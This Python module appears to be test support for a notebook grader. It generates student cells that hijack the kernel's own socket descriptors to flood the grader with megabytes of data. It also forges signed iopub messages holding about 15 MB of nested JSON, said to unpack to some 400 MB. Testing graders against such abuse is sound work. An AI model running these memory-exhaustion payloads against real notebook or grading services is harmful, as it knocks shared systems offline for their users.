"""What a student's cell does that means to fill the grader's memory, by the connections that its kernel has."""

from __future__ import annotations

SHELL, IOPUB, STDIN, HEARTBEAT, CONTROL = range(1, 6)

_ON_EACH = """
import os, socket, time
def connections(places):
    for name in os.listdir("/proc/self/fd"):
        try:
            found = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        named = found.family == socket.AF_UNIX and found.getsockname() in [f"/run/kernel/s-{place}" for place in places]
        if named and not found.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            found.setblocking(True)
            yield found
        else:
            found.close()
time.sleep(0.5)  # what the kernel says by itself is on its way
"""


def flood(*places: int, megabytes: int, last: bool = False) -> str:
    """A cell that sends so much on each connection to these of its kernel's sockets, in parts of 1 MB, and counts the
    connections; each part is a message of its own if it is the `last` of one, else all are one without an end."""
    head = bytes([2 if last else 3]) + (1 << 20).to_bytes(8, "big")
    return f"""{_ON_EACH}
part, count = {head!r} + bytes(1 << 20), 0
for connection in connections({places!r}):
    count += 1
    for _ in range({megabytes}):
        connection.sendall(part)
time.sleep(0.5)
print("connections:", count)
"""


VALUES = """
import time
kernel = get_ipython().kernel
session, pack = kernel.session, kernel.session.pack
text = b'{"data": {"a": [' + b'[],' * 490_000 + b'[]]}, "metadata": {}}'
parts = [pack(session.msg("display_data")["header"]), pack(kernel.get_parent()["header"]), b"{}", text]
for _ in range(10):
    kernel.iopub_socket.send_multipart([b"<IDS|MSG>", session.sign(parts), *parts])
time.sleep(1)
"""  # messages of 15 MB in all, which are some 400 MB when they are unpacked
